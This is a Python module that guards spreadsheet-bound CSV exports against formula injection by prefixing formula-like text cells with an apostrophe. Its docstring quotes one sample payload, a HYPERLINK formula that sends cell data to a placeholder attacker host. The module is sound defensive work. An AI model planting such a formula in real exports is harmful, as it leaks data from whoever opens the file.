"""CSV files a person may open in a spreadsheet: every text cell made inert (issue 19).

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (OWASP "CSV injection"): a caseworker's note
`=HYPERLINK("https://evil.example/?"&A1, "Open")` would run when the bundle is opened. Such a
cell is written with a leading apostrophe, which spreadsheets show as text and hide. Numbers
are left alone (a negative amount is not a formula). Every CSV the project writes for people
goes through `writer` or `dict_writer` here; the import files we read are not touched.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """`value` safe to open in a spreadsheet: a formula-like text gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose every row is neutralised cell by cell."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """csv.DictWriter whose every value is neutralised (the header is ours, not neutralised)."""

    def __init__(self, out: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        self._writer = csv.DictWriter(out, fieldnames=fieldnames, **options)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({key: neutralise(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str], **options: Any) -> SafeWriter:
    """A neutralising csv.writer over `out` (same options)."""
    return SafeWriter(out, **options)


def dict_writer(out: IO[str], fieldnames: Sequence[str], **options: Any) -> SafeDictWriter:
    """A neutralising csv.DictWriter over `out` (same options)."""
    return SafeDictWriter(out, fieldnames, **options)
